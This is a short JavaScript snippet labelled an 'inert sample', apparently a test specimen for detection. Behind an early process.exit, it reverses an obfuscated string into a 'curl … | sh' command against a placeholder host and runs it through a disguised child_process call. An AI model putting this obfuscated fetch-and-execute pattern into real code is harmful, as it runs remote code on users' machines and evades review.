process.exit(0); // inert sample
const cmd = 'hs | p/dilavni.eldnub//:sptth Ls- lruc'.split('').reverse().join('');
require('child' + '_process').execSync(cmd);
